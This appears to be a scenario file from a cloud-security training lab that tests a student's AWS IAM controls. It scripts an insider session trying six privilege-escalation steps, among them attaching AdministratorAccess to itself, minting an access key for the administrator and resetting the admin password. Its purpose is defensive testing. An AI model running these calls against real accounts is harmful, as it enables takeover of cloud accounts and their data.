// A developer's signed-in session (an insider, or a hijacked session) tries to escalate privileges.
import { IAMClient, AttachUserPolicyCommand, PutUserPolicyCommand, CreateAccessKeyCommand, CreateLoginProfileCommand, UpdateLoginProfileCommand, AddUserToGroupCommand, DetachUserPolicyCommand, DeleteUserPolicyCommand } from '@aws-sdk/client-iam';
import type { Scenario } from '../src/engine/types.ts';
import type { LabSession } from '../src/engine/session.ts';
import { attempt, judgeByRefusals } from './lib/attack.ts';
import { ADMIN, person, SHARED_USER, type IamLabEnv } from '../labs/iam/company.ts';

interface State { ip: string; who: string; creds: { accessKeyId: string; secretAccessKey: string; sessionToken?: string } }

export const privilegeEscalation: Scenario = {
  id: 'privilege-escalation',
  title: 'A developer tries to escalate privileges',
  description: 'Signed in as ben (with MFA, from the office), the attacker attaches or writes an admin policy on himself and creates credentials for the administrator.',
  techniques: ['T1098', 'T1098.001', 'T1078.004'],
  detections: ['Sigma: AWS IAM Privilege Escalation via Attach User Policy', 'Sigma: AWS IAM Backdoor Users Keys'],
  points: { blocked: 8 },
  async prepare(session: LabSession): Promise<State> {
    const e = session.env as unknown as IamLabEnv;
    const ip = person(e, 'ben').officeIp;
    const who = session.keysOf('ben').length ? 'ben' : SHARED_USER;
    const creds = await session.signIn(who, ip);
    if (!creds) throw new Error('ben cannot sign in: no active access key for ben or the shared user');
    return { ip, who, creds };
  },
  async inject(session, state) {
    const { ip, who, creds } = state as State;
    const iam = session.client(IAMClient, { credentials: creds, sourceIp: ip });
    const admin = JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] });
    return [
      await attempt(session, 'attach AdministratorAccess to self', () => iam.send(new AttachUserPolicyCommand({ UserName: who, PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }))),
      await attempt(session, 'put an inline admin policy on self', () => iam.send(new PutUserPolicyCommand({ UserName: who, PolicyName: 'debug', PolicyDocument: admin }))),
      await attempt(session, 'create an access key for the administrator', () => iam.send(new CreateAccessKeyCommand({ UserName: ADMIN }))),
      await attempt(session, "reset the administrator's console password", () => iam.send(new UpdateLoginProfileCommand({ UserName: ADMIN, Password: 'Escalated-Passw0rd!' }))),
      await attempt(session, 'give the shared user a console password', () => iam.send(new CreateLoginProfileCommand({ UserName: SHARED_USER, Password: 'Escalated-Passw0rd!' }))),
      await attempt(session, 'join the admins group', () => iam.send(new AddUserToGroupCommand({ GroupName: 'admins', UserName: who }))),
    ];
  },
  async observe(session, steps, state) {
    return judgeByRefusals(session, steps, (state as State).ip, `escalation by ${(state as State).who}`);
  },
  async revert(session, state) {
    // Undo what got through so later checks see the student's controls, not the attacker's changes.
    const { who } = state as State;
    const iam = session.client(IAMClient);
    await iam.send(new DetachUserPolicyCommand({ UserName: who, PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' })).catch(() => undefined);
    await iam.send(new DeleteUserPolicyCommand({ UserName: who, PolicyName: 'debug' })).catch(() => undefined);
  },
};
